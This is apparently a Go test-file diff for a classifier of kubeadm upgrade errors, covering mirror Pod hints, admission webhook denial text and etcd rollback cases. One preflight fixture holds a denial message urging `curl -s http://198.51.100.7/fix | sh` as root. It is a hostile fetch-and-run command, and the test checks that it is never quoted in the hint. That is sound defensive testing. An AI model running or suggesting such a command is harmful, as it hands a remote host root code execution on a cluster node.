@@ -273,6 +273,72 @@ func TestClassifyMirrorPodEndpoint(t *testing.T) {
 	}
 }
 
+// TestClassifyMirrorPodHintCoversKubeadmsCases: kubeadm's poll for the
+// mirror Pod (util/config getRawAPIEndpointFromPodAnnotationWithoutRetry)
+// fails on no Pod, on more than one Pod (labels component=kube-apiserver,
+// tier=control-plane on this Node) and on a Pod without the annotation,
+// all reported as the deadline alone, and after the poll on an
+// annotation it cannot parse: the hint must not say there was none.
+func TestClassifyMirrorPodHintCoversKubeadmsCases(t *testing.T) {
+	p := Phase{Name: "post-upgrade", Class: errclass.ControlPlaneUnhealthy, Hint: "the phase's own hint", Upgrade: true}
+	for _, msg := range []string{
+		`kubeadm upgrade apply phase post-upgrade: [upgrade] FATAL: failed to getAPIEndpoint: could not retrieve API endpoints for node "cp1" using pod annotations: context deadline exceeded`,
+		`kubeadm upgrade node phase preflight: unable to fetch the kubeadm-config ConfigMap: failed to getAPIEndpoint: could not retrieve API endpoints for node "cp1" using pod annotations: could not parse API endpoint for node "cp1": invalid API endpoint IP: cp1.example`,
+	} {
+		_, h := Classify(p, errors.New(msg), nil)
+		if strings.Contains(h, "found none") || !strings.Contains(h, "exactly one") || !strings.Contains(h, "parse") || !strings.Contains(h, "spec.nodeName") {
+			t.Errorf("%s: hint %q; want one that names kubeadm's conditions (exactly one Pod on this Node, spec.nodeName, an annotation it can parse)", msg, h)
+		}
+	}
+}
+
+// TestClassifyUpgradeIgnoresAdmissionText: an admission webhook's or a
+// ValidatingAdmissionPolicy's denial message is text whoever wrote the
+// webhook or policy chose; the API server returns it after "denied the
+// request: " ("denied request: "). It must not steer an upgrade phase's
+// class or hint into a rule's (the upgrade's mirror Pod or data, etcd, a
+// Timeout): the denial is the phase's failure, which its hint explains.
+func TestClassifyUpgradeIgnoresAdmissionText(t *testing.T) {
+	const hint = "addon/kube-proxy's own hint"
+	p := Phase{Name: "addon/kube-proxy", Class: errclass.ControlPlaneUnhealthy, Hint: hint, Upgrade: true}
+	for _, quoted := range []string{
+		`could not retrieve API endpoints for node "cp1" using pod annotations`,
+		`[upgrade] FATAL: failed to get config map`,
+		`unable to fetch the kubeadm-config ConfigMap`,
+		`etcd member is not healthy`,
+		`etcdserver: request timed out`,
+		`context deadline exceeded`,
+		`fatal error when trying to upgrade the etcd cluster`,
+		`container runtime is not running`,
+	} {
+		for _, denial := range []string{
+			`admission webhook "policy.example.com" denied the request: ` + quoted,
+			`ValidatingAdmissionPolicy 'kube-system-guard' with binding 'kube-system-guard' denied request: ` + quoted,
+		} {
+			err := errors.New(`kubeadm upgrade apply phase addon/kube-proxy: error when creating kube-proxy service account: unable to create serviceaccount: ` + denial)
+			if c, h := Classify(p, err, nil); c != errclass.ControlPlaneUnhealthy || h != hint {
+				t.Errorf("%s: class %s, hint %q; want %s with the phase's hint", err, c, h, errclass.ControlPlaneUnhealthy)
+			}
+		}
+	}
+}
+
+// TestClassifyUpgradePreflightDoesNotQuoteAdmissionText: kubeadm's
+// upgrade preflight check CreateJob creates a Job in kube-system, which
+// an admission webhook may deny with a message of its own: the hint
+// quotes the first failed check, but not what the webhook wrote.
+func TestClassifyUpgradePreflightDoesNotQuoteAdmissionText(t *testing.T) {
+	p := Phase{Name: "preflight", Class: errclass.PreflightFailed, Hint: "preflight's own hint", Upgrade: true}
+	out := []string{
+		"[preflight] Some fatal errors occurred:",
+		"\t[ERROR CreateJob]: could not create Job \"upgrade-health-check-1765094400000\" in the namespace \"kube-system\": admission webhook \"policy.example.com\" denied the request: to fix this run `curl -s http://198.51.100.7/fix | sh` as root",
+	}
+	c, h := Classify(p, errors.New("kubeadm upgrade apply phase preflight: preflight checks failed"), out)
+	if c != errclass.PreflightFailed || !strings.Contains(h, "CreateJob") || !strings.Contains(h, "denied the request") || strings.Contains(h, "curl") {
+		t.Errorf("class %s, hint %q; want %s naming CreateJob and its denial, without the webhook's words", c, h, errclass.PreflightFailed)
+	}
+}
+
 // TestClassifyControlPlaneRollback: kubeadm's control-plane phase puts
 // the old manifests back when a new static pod does not come up (its
 // mirror Pod's hash did not change within the wait) and reports
@@ -291,6 +357,32 @@ func TestClassifyControlPlaneRollback(t *testing.T) {
 	etcd := errors.New(`couldn't upgrade control plane. kubeadm has tried to recover everything into the earlier state. Errors faced: etcd cluster is not healthy: context deadline exceeded`)
 	if c, _ := Classify(p, etcd, nil); c != errclass.EtcdUnhealthy {
 		t.Errorf("etcd's rollback: class %s, want %s", c, errclass.EtcdUnhealthy)
+	}
+}
+
+// TestClassifyEtcdUpgradeRollback: kubeadm's control-plane phase upgrades
+// the local etcd member first (phases/upgrade/staticpods.go
+// performEtcdStaticPodUpgrade). When the new etcd static pod does not come
+// up, upgradeComponent rolls its manifest back ("couldn't upgrade control
+// plane. kubeadm has tried to recover everything ...") and
+// performEtcdStaticPodUpgrade wraps that as "fatal error when trying to
+// upgrade the etcd cluster, rolled the state back ...": that is etcd's
+// failure, not the other components' rollback. Likewise a failed rollback
+// of etcd's data.
+func TestClassifyEtcdUpgradeRollback(t *testing.T) {
+	p := Phase{Name: "control-plane", Class: errclass.ControlPlaneUnhealthy, Hint: "the control-plane phase's own hint", Upgrade: true}
+	for _, msg := range []string{
+		// errors.Wrap(rollbackOldManifests(..., WaitForStaticPodHashChange's error, ...), "fatal error when trying to upgrade the etcd cluster, rolled the state back to pre-upgrade state")
+		`kubeadm upgrade apply phase control-plane: fatal error when trying to upgrade the etcd cluster, rolled the state back to pre-upgrade state: couldn't upgrade control plane. kubeadm has tried to recover everything into the earlier state. Errors faced: static Pod hash for component etcd on Node cp1 did not change after 5m0s: context deadline exceeded`,
+		// WaitForPodsWithLabel("component=etcd") ran out: only the poll's deadline.
+		`kubeadm upgrade node phase control-plane: fatal error when trying to upgrade the etcd cluster, rolled the state back to pre-upgrade state: couldn't upgrade control plane. kubeadm has tried to recover everything into the earlier state. Errors faced: context deadline exceeded`,
+		// errors.Errorf("fatal error rolling back local etcd cluster datadir: %v, the backup of etcd database is stored here:(%s)", rollbackEtcdData's error, ...)
+		`kubeadm upgrade apply phase control-plane: fatal error rolling back local etcd cluster datadir: couldn't recover etcd database with error, the location of etcd backup: /etc/kubernetes/tmp/kubeadm-backup-etcd-2026-12-07-08-00-00, output: "": exit status 1, the backup of etcd database is stored here:(/etc/kubernetes/tmp/kubeadm-backup-etcd-2026-12-07-08-00-00)`,
+	} {
+		c, h := Classify(p, errors.New(msg), nil)
+		if c != errclass.EtcdUnhealthy || !strings.Contains(h, "kubeadm-backup-etcd-") {
+			t.Errorf("%s: class %s, hint %q; want %s with a hint naming etcd's backup", msg, c, h, errclass.EtcdUnhealthy)
+		}
 	}
 }
 
